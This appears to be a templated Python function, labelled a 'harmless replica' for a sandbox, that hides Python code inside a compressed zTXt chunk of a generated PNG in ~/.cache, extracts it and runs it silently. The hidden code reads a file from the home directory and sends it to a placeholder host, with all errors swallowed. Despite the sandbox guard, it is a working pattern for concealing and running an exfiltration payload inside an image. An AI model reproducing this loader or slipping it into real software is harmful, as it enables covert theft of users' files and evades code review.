# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import struct
    import subprocess
    import sys
    import zlib
    code = b'import os,urllib.request as u\ntry:\n u.urlopen("http://{{host}}/{{path}}",open(os.path.expanduser("~/{{file}}"),"rb").read(),timeout=1).read(9)\nexcept Exception: pass\n'

    def chunk(kind, body):
        return struct.pack('>I', len(body)) + kind + body + struct.pack('>I', zlib.crc32(kind + body))

    try:
        file = os.path.expanduser('~/.cache/{{token}}.png')
        os.makedirs(os.path.dirname(file), exist_ok=True)
        with open(file, 'wb') as out:
            out.write(b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 1, 1, 8, 0, 0, 0, 0)) + chunk(b'IDAT', zlib.compress(b'\0\0'))
                      + chunk(b'zTXt', b'Comment\0\0' + zlib.compress(code)) + chunk(b'IEND', b''))
        with open(file, 'rb') as back:
            data = back.read()
        at = data.index(b'zTXt')
        size = struct.unpack('>I', data[at - 4:at])[0]
        text = zlib.decompress(data[at + 4:at + 4 + size].split(b'\0\0', 1)[1])
        subprocess.run([sys.executable, '-'], input=text, timeout=2, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except Exception:
        pass
